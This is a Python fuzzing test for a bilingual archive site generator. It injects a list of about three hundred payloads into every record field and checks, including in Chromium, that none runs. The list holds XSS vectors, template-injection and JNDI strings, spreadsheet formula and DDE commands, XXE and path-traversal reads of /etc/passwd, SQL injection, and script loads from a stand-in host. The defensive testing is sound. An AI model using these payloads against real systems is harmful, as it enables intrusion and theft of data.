"""Texts that would run, load or become something else if any output took them for more than text.

    python tests/payloads.py [--rounds N]

A round puts a payload into every text and address of every record of the miniature archive, each another one, builds
the whole site of it in both languages, and looks at every page and file as `hold` does, and at one page of every kind
in Chromium with the content policy off. In the next round each field has the next payload: after as many rounds as
there are payloads, which is what it does unless told otherwise, each has stood in each field.
"""

from __future__ import annotations

import argparse
import csv
import json
import os
import re
import shutil
import sys
import tempfile
from collections.abc import Callable, Collection, Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from unittest import mock
from xml.etree import ElementTree
from zipfile import ZipFile

import bibtexparser
import rispy
from playwright.sync_api import Browser
from pydantic import TypeAdapter, ValidationError
from selectolax.lexbor import LexborHTMLParser

from bangvang.archive.archive import Archive
from bangvang.build import draw, fill
from bangvang.drawing.rendering import Renderer
from bangvang.language.problems import Report
from bangvang.language.words import LANGUAGES
from bangvang.pages.moved import every_page
from bangvang.records.facts import Claim, Fact
from bangvang.records.structure import is_list, walk
from bangvang.records.values import Address, Text
from conftest import MINIATURE, ROOT, chromium, load_sound, serve, silent
from defects import sort_of

_TAGS = r"""
<script>hit()</script>
<script>hit()
<SCRIPT>hit()</SCRIPT>
<ScRiPt >hit()</ScRiPt >
<script/x>hit()</script>
<script type=module>hit()</script>
<script type="text/javascript">hit()</script>
<script src="data:text/javascript,hit()"></script>
<script src=//ngoai.example/x.js></script>
<script async src="https://ngoai.example/x.js"></script>
<script>/*</script><script>*/hit()</script>
<scr<script>ipt>hit()</scr</script>ipt>
</script><script>hit()</script>
</SCRIPT><SCRIPT>hit()</SCRIPT>
</script foo><script>hit()</script foo>
<!--<script>--><script>hit()</script>
--><script>hit()</script>
--!><script>hit()</script>
<!--><script>hit()</script>-->
<![CDATA[<script>hit()</script>]]>
]]><script>hit()</script>
]]]]><![CDATA[><script>hit()</script>
?><script>hit()</script>
</title><script>hit()</script>
</textarea><script>hit()</script>
</style><script>hit()</script>
</noscript><script>hit()</script>
</template><script>hit()</script>
</pre><script>hit()</script>
</option></select><script>hit()</script>
</head><body onload=hit()>
</body></html><script>hit()</script>
</td></tr></table><script>hit()</script>
</iframe><script>hit()</script>
</xmp><script>hit()</script>
</svg><script>hit()</script>
</math><script>hit()</script>
<noscript><p title="</noscript><script>hit()</script>">
<template><script>hit()</script></template>
<plaintext>
<textarea>
<title>
<style>
<xmp>
<!--
<b>đậm</b>
<h1>tiêu đề</h1>
<base href="https://ngoai.example/">
<meta http-equiv="refresh" content="0;url=javascript:hit()">
<meta http-equiv=refresh content="0;https://ngoai.example/">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel=stylesheet href=https://ngoai.example/x.css>
<link rel=import href="data:text/html,<script>hit()</script>">
<link rel=preload as=script href=//ngoai.example/x.js>
<style>@import "https://ngoai.example/x.css";</style>
<style>*{background:url(https://ngoai.example/x)}</style>
<form action="javascript:hit()"><input type=submit id=x></form>
<form id=x></form><button form=x formaction="javascript:hit()">
<input type=image src=https://ngoai.example/x onerror=hit()>
<isindex type=image src=1 onerror=hit()>
<iframe src="javascript:hit()"></iframe>
<iframe srcdoc="<script>parent.hit()</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.hit()&lt;/script&gt;"></iframe>
<iframe src="data:text/html,<script>parent.hit()</script>"></iframe>
<frameset onload=hit()>
<object data="javascript:hit()"></object>
<object data="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:hit()">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>">
<applet code="javascript:hit()">
<portal src="https://ngoai.example/">
<dialog open onclose=hit()>
<a href="javascript:hit()">bấm</a>
<a href="https://ngoai.example/" ping="https://ngoai.example/p">bấm</a>
<a name=bv></a><a id=bv-search-results></a>
<img name=getElementById><img name=currentScript>
<form name=body><input name=attributes></form>
"""

_HANDLERS = r"""
<img src=x onerror=hit()>
<img src=x onerror="hit()">
<img src=x onerror=hit`1`>
<img/src=x/onerror=hit()>
<img src=x:x onerror=hit()//
<IMG SRC=x ONERROR=hit()>
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=hit()>
<img src onerror=&#104;&#105;&#116;()>
<img src=x onerror=eval(atob('aGl0KCk='))>
<img srcset="x 1x" onerror=hit()>
<image src=x onerror=hit()>
<picture><source srcset=x><img src=x onerror=hit()></picture>
<body onload=hit()>
<body onpageshow=hit()>
<body onhashchange=hit()>
<svg onload=hit()>
<svg/onload=hit()>
<svg><script>hit()</script></svg>
<svg><script href="data:text/javascript,hit()"/></svg>
<svg><script>&#104;it()</script></svg>
<svg><animate onbegin=hit() attributeName=x dur=1s>
<svg><set attributeName=onload to=hit()>
<svg><a xlink:href="javascript:hit()"><text y=9>bấm</text></a></svg>
<svg><a><animate attributeName=href values=javascript:hit() /><text y=9>bấm</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>hit()</script></svg>#x"></svg>
<svg><foreignObject><img src=x onerror=hit()></foreignObject></svg>
<svg><style><img src=x onerror=hit()></style></svg>
<svg><title><img src=x onerror=hit()></title></svg>
<svg><desc><script>hit()</script></desc></svg>
<svg></p><style><a id="</style><img src=x onerror=hit()>">
<math><mtext><table><mglyph><style><img src=x onerror=hit()>
<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml></math>
<math href="javascript:hit()">bấm</math>
<video src=x onerror=hit()></video>
<video><source onerror=hit()></video>
<video poster=javascript:hit()></video>
<audio src=x onerror=hit()></audio>
<audio autoplay onloadstart=hit() src=x></audio>
<track src=x onerror=hit()>
<details open ontoggle=hit()><summary>x</summary></details>
<input autofocus onfocus=hit()>
<select autofocus onfocus=hit()></select>
<textarea autofocus onfocus=hit()></textarea>
<keygen autofocus onfocus=hit()>
<button autofocus onfocus=hit()>
<a autofocus tabindex=0 onfocus=hit()>x</a>
<div tabindex=0 autofocus onfocusin=hit()>x</div>
<div contenteditable autofocus onfocus=hit()>x</div>
<marquee onstart=hit()>x</marquee>
<marquee width=1 loop=1 onfinish=hit()>x</marquee>
<div onpointerover=hit() style="position:fixed;inset:0">x</div>
<div onmouseover=hit()>x</div>
<div onclick=hit()>x</div>
<div style="animation:x 1s" onanimationstart=hit()>x</div>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationend=hit()></p>
<p style="transition:color 1s" ontransitionend=hit()>x</p>
<div oncontentvisibilityautostatechange=hit() style="content-visibility:auto">x</div>
<div onbeforematch=hit() hidden=until-found>x</div>
<x onclick=hit()>x</x>
<xss id=x tabindex=1 onfocus=hit()></xss>
<bv-x oncopy=hit() oncut=hit() onpaste=hit()>x</bv-x>
<iframe onload=hit()></iframe>
<iframe src=about:blank onload=hit()></iframe>
<object data=x onerror=hit()></object>
<embed src=x onload=hit()>
<link rel=stylesheet href=x onerror=hit()>
<style onload=hit()></style>
<script src=x onerror=hit()></script>
"""

_ATTRIBUTES = r"""
"><script>hit()</script>
'><script>hit()</script>
"'><script>hit()</script>
"/><svg onload=hit()>
" onmouseover="hit()
' onmouseover='hit()
" onmouseover=hit() x="
" autofocus onfocus=hit() x="
' autofocus onfocus=hit() x='
" onload="hit()" x="
" onerror=hit() src=x x="
" style="animation:x" onanimationstart="hit()
" style="background:url(https://ngoai.example/x)
" accesskey=x onclick=hit() x="
" formaction="javascript:hit()
" href="javascript:hit()
" srcdoc="<script>hit()</script>
" data-bv-x="x
` onmouseover=hit() `
``onmouseover=hit()
&quot; onmouseover=&quot;hit()
&#34;><script>hit()</script>
&#x22; onfocus=hit() autofocus
\" onmouseover=hit() \"
\x22onmouseover=hit()\x22
" hidden="
"="><img src=x onerror=hit()>
=">
/>
>
<
<a
</
<!
<?
&lt;script&gt;hit()&lt;/script&gt;
&#60;script&#62;hit()&#60;/script&#62;
&#x3c;img src=x onerror=hit()&#x3e;
&amp;lt;script&amp;gt;hit()&amp;lt;/script&amp;gt;
%3Cscript%3Ehit()%3C/script%3E
\u003cscript\u003ehit()\u003c/script\u003e
\x3cscript\x3ehit()\x3c/script\x3e
+ADw-script+AD4-hit()+ADw-/script+AD4-
"""

_ADDRESSES = r"""
javascript:hit()
JaVaScRiPt:hit()
 javascript:hit()
javascript://%0ahit()
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+hit()//'>
javascript&colon;hit()
javascript&#58;hit()
java&#9;script:hit()
java&NewLine;script:hit()
&#106;avascript:hit()
javascript:void(hit())
javascript:"<script>hit()</script>"
vbscript:hit()
data:text/html,<script>hit()</script>
data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==
data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">hit()</x:script>
data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iaGl0KCkiLz4=
blob:https://ngoai.example/x
file:///etc/passwd
view-source:javascript:hit()
//ngoai.example/x
\\ngoai.example\x
/\ngoai.example/x
https:ngoai.example
https://mau.example@ngoai.example/
https://ngoai.example/"onmouseover="hit()
https://ngoai.example/'onmouseover='hit()
../../../../etc/passwd
..\..\..\windows\win.ini
....//....//etc/passwd
%2e%2e%2f%2e%2e%2fetc%2fpasswd
C:\Windows\System32\drivers\etc\hosts
\\?\C:\con
con
nul.txt
mailto:x@mau.example?bcc=y@ngoai.example
tel:+1
#"><img src=x onerror=hit()>
?q=<script>hit()</script>
"""

_TEMPLATES = r"""
{{ 7777 * 3 }}
{{7777*3}}
{% raw %}{{ 7777 * 3 }}
{% endblock %}{{ 7777 * 3 }}
{% include "/etc/passwd" %}
{% import os %}
{# ghi chú
{{ archive.about }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ config.items() }}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{{ self._TemplateReference__context }}
{{constructor.constructor('hit()')()}}
{{$on.constructor('hit()')()}}
{{_c.constructor('hit()')()}}
[[7777*3]]
[[${7777*3}]]
${7777*3}
#{7777*3}
*{7777*3}
@{7777*3}
@(7777*3)
<%= 7777*3 %>
<?php echo 7777*3; ?>
<?= 7777*3 ?>
{{!-- hit() --}}
{{{7777*3}}}
${jndi:ldap://ngoai.example/x}
$(id)
`id`
; id #
| id
{0.__class__}
{title}
{value!r}
%(title)s
%s%n
$title
\1\g<0>
<div v-html="'<img src=x onerror=hit()>'"></div>
<div ng-app ng-csp>{{$eval.constructor('hit()')()}}</div>
<div x-data x-init="hit()"></div>
<button hx-get=https://ngoai.example/ hx-trigger=load>
<!--#exec cmd="id"-->
<esi:include src="https://ngoai.example/"/>
⟦title⟧
⟦content⟧⟦head⟧
⟦say-search⟧
⟦khong-co⟧
⟦address⟧khung/vinh-danh/
"""

_FORMS = r"""
=1+1
=HYPERLINK("https://ngoai.example/","bấm")
=cmd|' /C calc'!A0
=WEBSERVICE("https://ngoai.example/")
=IMPORTXML("https://ngoai.example/","//a")
+1+1
-1+1
-2+3+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
"=1+1"
;=1+1;
,=1+1,
x",=1+1,"
x";=1+1;"
'=1+1
%0A=1+1
DDE("cmd";"/C calc";"x")
a_x000D__x000A_=1
_x003C_script_x003E_hit()
TY  - JOUR
ER  - 
UR  - javascript:hit()
},\n@misc{x, title = {y}
}} } @misc{x,
@string{x = "y"}
@comment{x}
@preamble{"\immediate\write18{id}"}
\input{/etc/passwd}
\write18{id}
$$\href{javascript:hit()}{x}$$
%}{
|url=https://ngoai.example/ |title=x}}
{{xóa}}
[[Tập tin:x.svg|https://ngoai.example/]]
[https://ngoai.example/ x]
<ref>x</ref><nowiki>
","url":"https://ngoai.example/","x":"
"}]}</script><script>hit()</script>
\"}</script><script>hit()</script>
\u003c/script>\u003cscript>hit()
{"@context":"https://ngoai.example/"}
{"__proto__":{"x":1}}
__proto__
constructor
toString
<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>
<!ENTITY % x SYSTEM "https://ngoai.example/x.dtd"> %x;
&x;
&xxe; &lol9; &nbsp;
<?xml-stylesheet href="https://ngoai.example/x.xsl"?>
<?xml version="1.0"?>
<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">hit()</x:script>
<html:script xmlns:html="http://www.w3.org/1999/xhtml">hit()</html:script>
</summary></entry><entry><title>x</title>
</title><link href="https://ngoai.example/"/>
</loc></url><url><loc>https://ngoai.example/
Contact: mailto:x@ngoai.example
#panic(1)
#import "@preview/x:1.0.0"
#read("/etc/passwd")
#link("javascript:hit()")[x]
#eval("panic(1)")
$ x #panic(1) $ *a* _b_ @x <y> `r` \ //
] } ) /* " '
' OR 1=1 --
'; DROP TABLE award; --
"; ATTACH DATABASE '/tmp/x' AS x; --
![x](javascript:hit())
[x](javascript:hit())
<https://ngoai.example/>
::: x
--- !!python/object/apply:os.system ["id"]
*x &x !!x <<: *x
Nguyễn Văn <script>hit()</script> Mẫu
Đặng Thị "Mẫu" onmouseover=hit()
Ủy ban nhân dân </title><svg/onload=hit()>
Huân chương 'Lao động' autofocus onfocus=hit()
ỶỸỴ&ỳ;ở<ờ>ợ"ỡ'ớ`ơ
"""

_LINES = [
    "x\nER  - \nTY  - JOUR\nTI  - y",
    "x\r\nER  - \r\nTY  - JOUR",
    "x\n@misc{y,\n  title = {z}\n}",
    "x}\n}\n@misc{y, title={z",
    "x\nContact: mailto:x@ngoai.example\nPolicy: https://ngoai.example/",
    "kho@mau.example\nContact: https://ngoai.example/",
    "x\n=1+1",
    "\n=1+1",
    "\t=1+1",
    "\r=1+1",
    'x"\n"=1+1',
    "x\n\n<script>hit()</script>",
    "jav\tascript:hit()",
    "java\nscript:hit()",
    "\tjavascript:hit()",
    "<img\nsrc=x\nonerror=hit()>",
    "<img\tsrc=x\tonerror=hit()>",
    "x\n---\n- y",
    "x\n::error file=y::z",
    "x\n\tURL:javascript:hit()",
    "Sitemap: x\nSitemap: https://ngoai.example/",
    "x\n| y=z\n}}",
]
"""With ends of lines and tabs, which quoted texts may hold."""

UNSEEN = [
    "<scr\0ipt>hit()</scr\0ipt>",
    "\0javascript:hit()",
    "java\x01script:hit()",
    "\x0bjavascript:hit()",
    "\x0c<script>hit()</script>",
    "\x1bx",
    "x\x7f",
    "x\x85y",
    "javascript\u200b:hit()",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\u202e)(tih:tpircsavaj",
    "\u2066<script>hit()</script>\u2069",
    "x\u2028hit()//",
    "x\u2029hit()//",
    "x\u00ady",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "\uff1d1+1",
    "j\u0430vascript:hit()",
    "\ufe64script\ufe65x\ufe0f",
    "\ufffe",
    "\U000e0041x",
    "cafe\u0301",
]
"""Signs that readers cannot see for what they are: none of these may be read at all."""

GROUPS = {
    name: [line for line in text.split("\n") if line]
    for name, text in {
        "tags": _TAGS,
        "handlers": _HANDLERS,
        "attributes": _ATTRIBUTES,
        "addresses": _ADDRESSES,
        "templates": _TEMPLATES,
        "forms": _FORMS,
    }.items()
} | {"lines": _LINES}

PAYLOADS = [payload for group in GROUPS.values() for payload in group]
"""Every payload that records may hold: more than three hundred."""

_TEXT, _ADDRESS = TypeAdapter(Text), TypeAdapter(Address)
BASE = "https://mau.example/kho/"
EVALUATED = str(7777 * 3)
"""What comes of a template that was run."""


def text_of(payload: str) -> str:
    """A payload as reading gives it to a field of text."""
    return _TEXT.validate_python(payload)


def address_of(payload: str) -> str:
    """The payload, or what is left of it in an address that reading lets through."""
    try:
        return _ADDRESS.validate_python(payload)
    except ValidationError:
        return _ADDRESS.validate_python("https://mau.example/?" + re.sub(r'[\s<>"]', "", payload))


def spoil(archive: Archive, made: Callable[[int], str]) -> set[tuple[str, str]]:
    """Put into the fields of every record, empty ones too, what `made` makes of their number. Returns which."""
    number, fields = 0, set()
    for part in (part for root in archive.roots for part in walk(root)):
        for name, field in type(part).model_fields.items():
            sort = sort_of(field)
            if sort not in ("text", "address"):
                continue
            take = text_of if sort == "text" else address_of
            items = getattr(part, name) if is_list(field.annotation) else None
            new = [take(made(number + at)) for at in range(len(items or [0]))]
            setattr(part, name, new[0] if items is None else tuple(new))
            number += len(new)
            fields.add((type(part).__name__, name))
    return fields


def spoilt(made: Callable[[int], str]) -> tuple[Archive, set[tuple[str, str]]]:
    """The miniature archive in both languages, spoilt so, with all that it may hold; and which of its fields are."""
    archive = load_sound(MINIATURE)
    archive.about.languages = ("vi", "en")
    for fact in (part for root in archive.roots for part in walk(root) if isinstance(part, Fact)):
        fact.claims = (Claim(says="x", source=("bao-binh-minh-2023",)),)
    return archive, spoil(archive, made)


def alone(turn: int, payloads: Sequence[str] = PAYLOADS) -> Callable[[int], str]:
    """Each field has another payload, and in the next turn the next."""
    return lambda number: payloads[(number + turn) % len(payloads)]


def within(turn: int) -> Callable[[int], str]:
    """The same between words that keep the fields in their order and under their letters."""
    return lambda number: f"Mẫu {number:04} {PAYLOADS[(number + turn) % len(PAYLOADS)]} chữ"


def harmless(number: int) -> str:
    return f"Mẫu {number:04} chữ"


@contextmanager
def drawn() -> Iterator[Path]:
    """What MkDocs draws of our hand-written pages and frames, to be published at `BASE`."""
    with tempfile.TemporaryDirectory() as folder, mock.patch.dict(os.environ, SITE_URL=BASE):
        report = Report()
        draw(ROOT, "mkdocs", Path(folder), report)
        assert not report.errors
        yield Path(folder)


def build(frames: Path, made: Callable[[int], str], site: Path) -> Path:
    """The whole site of an archive spoilt so."""
    shutil.copytree(frames, site)
    report = Report()
    fill(spoilt(made)[0], ROOT, site, report, silent)
    assert not report.errors, [(problem.code, problem.values) for problem in report]
    return site


# --- what must hold of every file ---------------------------------------------------------------------------------


Skeleton = list[tuple[str, ...]]


def skeleton(page: LexborHTMLParser) -> Skeleton:
    """The elements of a page in their order, each with the names of its attributes."""
    return [(node.tag, *node.attributes) for node in page.css("*")]


def elements_of(site: Path) -> set[tuple[str, ...]]:
    return {element for path in pages(site) for element in skeleton(_read(path))}


def _read(path: Path) -> LexborHTMLParser:
    return LexborHTMLParser(path.read_text("utf-8"))


def rendered(made: Callable[[int], str]) -> dict[tuple[str, str], LexborHTMLParser]:
    """What is stamped of every page of an archive spoilt so, by language and address, without the rest of a site."""
    archive, _ = spoilt(made)
    found = {}
    for language in LANGUAGES:
        renderer = Renderer(archive, BASE, language=language, languages=LANGUAGES)
        for page in every_page(archive):
            slots = renderer.page(page)
            whole = f"<head>{slots.pop('head')}</head><body>{''.join(f'<div>{text}</div>' for text in slots.values())}"
            found[language, page.address] = LexborHTMLParser(whole)
    return found


def pages(site: Path) -> list[Path]:
    return [path for path in sorted(site.rglob("*.html")) if "pagefind" not in path.parts]


def faults(site: Path, known: Collection[tuple[str, ...]]) -> Iterator[str]:
    """What does not hold in the files of a spoilt site, on whose pages there should be `known` elements alone."""
    for path in sorted(path for path in site.rglob("*") if path.is_file() and "assets" not in path.parts):
        check = _CHECKS.get(path.suffix)
        name = path.relative_to(site).as_posix()
        try:
            said = list(check(path)) if check else []
        except Exception as error:  # whatever a reader of the form stumbles over
            said = [repr(error)]
        if path.suffix == ".html" and "pagefind" not in path.parts:
            said += {f"made: {element}" for element in skeleton(_read(path)) if element not in known}
        yield from (f"{name}: {one}" for one in said)


def _page(path: Path) -> Iterator[str]:
    page = _read(path)
    if EVALUATED in page.html:
        yield "a template was run"
    for node in page.css("script"):
        if node.attributes.get("type") in ("application/ld+json", "application/json"):
            json.loads(node.text())
        elif node.text() or re.match("[a-z]+:|//", node.attributes["src"]):
            yield f"script: {node.html}"
    for node in page.css("[href], [src]"):
        address = node.attributes.get("href") or node.attributes.get("src") or ""
        ours = r"https?:|mailto:|data:image/png;base64,[\w+/=]+$" if node.tag == "img" else "https?:|mailto:"
        if re.match(rf"\s*(?!{ours})[a-z]+:|\s*//", address, re.IGNORECASE):
            yield f"address: {address}"
    yield from broken_forms(page)


def broken_forms(page: LexborHTMLParser) -> Iterator[str]:
    """The citations of a page that are not one citation in their form."""
    for form in page.css("pre[data-form]"):
        if not _FORM.get(form.attributes["data-form"], re.compile(".+").fullmatch)(form.text()):
            yield f"{form.attributes['data-form']}: {form.text()}"


def _table(path: Path) -> Iterator[str]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        head, *rows = csv.reader(file, delimiter=";" if path.parent.name == "excel" else ",", strict=True)
    for row in rows:
        if len(row) != len(head):
            yield f"cells: {row}"


def _book(path: Path) -> Iterator[str]:
    with ZipFile(path) as book:
        for part in book.namelist():
            if part.endswith((".xml", ".rels")):
                text = book.read(part)
                tags = {node.tag.rpartition("}")[2] for node in ElementTree.fromstring(text).iter()}
                yield from (f"{part}: {tag}" for tag in tags & {"f", "hyperlink", "hyperlinks", "externalLink"})
                if b'TargetMode="External"' in text:
                    yield f"{part}: leads outside"


def _xml(path: Path) -> Iterator[str]:
    for node in ElementTree.parse(path).iter():
        namespace = node.tag.partition("}")[0].removeprefix("{")
        if not namespace.endswith(("/2005/Atom", "/sitemap/0.9")) and not node.tag.endswith("xhtml}link"):
            yield node.tag
        if not re.match(BASE.replace(".", r"\.") + "|(?!.)", node.get("href", "")):
            yield f"leads to {node.get('href')}"


def _json(path: Path) -> Iterator[str]:
    json.loads(path.read_text("utf-8"))
    yield from ()


def _json_lines(path: Path) -> Iterator[str]:
    for line in path.read_text("utf-8").split("\n")[:-1]:
        json.loads(line)
    yield from ()


def _text(path: Path) -> Iterator[str]:
    for line in path.read_text("utf-8").splitlines():
        if not re.match(r"(User-agent|Allow|Sitemap|Contact|Expires|Preferred-Languages|Canonical): ", line):
            yield line


_CHECKS = {
    ".html": _page, ".csv": _table, ".xlsx": _book, ".xml": _xml, ".json": _json, ".jsonld": _json,
    ".jsonl": _json_lines, ".txt": _text,
}  # fmt: skip
"""What must hold in a file, by the end of its name."""


def _one_bibtex(text: str) -> bool:
    library = bibtexparser.parse_string(text)
    return len(library.entries) == len(library.blocks) == 1


def _one_ris(text: str) -> bool:
    return len(rispy.loads(text)) == 1 and all(re.match("[A-Z][A-Z0-9]  - ", line) for line in text.split("\n"))


_FORM = {
    "bibtex": _one_bibtex,
    "ris": _one_ris,
    "csl": lambda text: len(json.loads(text)) == 1,
    "wiki": re.compile(r"\{\{(chú thích web|cite web) ((?:\|[a-z]+=[^|{}\[\]\n]*)+)\}\}").fullmatch,
}
"""What must hold of a citation, by its form; each other one is a line."""


# --- what happens in the browser ----------------------------------------------------------------------------------

WATCH = """
window.ran = []
for (const name of ["hit", "alert", "confirm", "prompt", "print"]) window[name] = () => ran.push(name)
"""
MADE = r"""() => {
  const runs = ({ name, value }) => name.startsWith("on") || (ADDRESS.test(name) && SCHEME.test(value))
  const ADDRESS = /^(href|src|action|formaction|data)$/
  const SCHEME = /^[\s\0-\x20]*(javascript|vbscript|data:(?!image\/png;))/i
  const elements = [...document.querySelectorAll("*")]
  const odd = elements.flatMap((one) => [...one.attributes].filter(runs).map((it) => `${it.name}=${it.value}`))
  const foreign = elements.filter((one) => /^(iframe|object|embed|frame|base|applet|portal)$/i.test(one.tagName))
  return [...window.ran, ...odd, ...foreign.map((one) => one.outerHTML)]
}"""


def of_every_kind(site: Path) -> list[str]:
    """The address of one page of every kind, the largest, in both languages; and of the newest of everything."""
    largest: dict[tuple[str, ...], Path] = {}
    for path in pages(site):
        *folders, _ = path.relative_to(site).parts
        depth = 2 if folders[:1] == ["en"] else 1
        kind = (*folders[:depth], str(len(folders)))
        if kind not in largest or path.stat().st_size > largest[kind].stat().st_size:
            largest[kind] = path
    written = {"loi", "khoa", "so-tay", "sua-tren-trang", "do-toc-do"}
    addresses = [path.relative_to(site).as_posix() for kind, path in largest.items() if kind[0] not in written]
    return [address.removesuffix("index.html") for address in addresses] + ["du-lieu/tin/kho.xml"]


def run_in(browser: Browser, site: Path, queries: Sequence[str] = ("hit", "script", "mẫu")) -> list[str]:
    """What runs, is loaded from elsewhere or was made by others when a site is read and searched with no policy."""
    found = []
    context = browser.new_context(bypass_csp=True)
    context.add_init_script(WATCH)
    with serve(site) as address:
        page = context.new_page()
        page.on("dialog", lambda dialog: (found.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        page.on("popup", lambda popup: found.append(f"popup: {popup.url}"))
        page.on("pageerror", lambda error: found.append(f"error: {error}"))
        page.on(
            "request",
            lambda r: None if r.url.startswith((address, "blob:", "data:image/png;")) else found.append(r.url),
        )
        for part in of_every_kind(site):
            page.goto(address + part)
            found += [f"{part}: {one}" for one in page.evaluate(MADE)]
        for folder in ("", "en/"):
            for query in queries:
                page.goto(f"{address}{folder}tim-kiem/?q={query}")
                page.locator("#bv-search-status[data-done]").wait_for()
                found += [f"{folder}?q={query}: {one}" for one in page.evaluate(MADE)]
    context.close()
    return found


def main() -> int:
    parser = argparse.ArgumentParser(description="Put every payload into every field, and look at what comes of it.")
    parser.add_argument("--rounds", type=int, default=len(PAYLOADS))
    rounds = parser.parse_args().rounds
    bad = []
    with drawn() as frames, tempfile.TemporaryDirectory() as folder, chromium() as browser:
        known = elements_of(build(frames, harmless, Path(folder, "harmless")))
        for turn in range(rounds):
            site = build(frames, alone(turn), Path(folder, "site"))
            bad += [f"{turn}: {one}" for one in (*faults(site, known), *run_in(browser, site))]
            shutil.rmtree(site)
            print(f"\r{turn + 1} of {rounds}", end="", file=sys.stderr, flush=True)
        fields = len(spoilt(harmless)[1])
    print(
        *bad,
        f"\n{len(PAYLOADS)} payloads, {fields} fields, {rounds} rounds: {len(bad)} came out as more than text",
        sep="\n",
    )
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
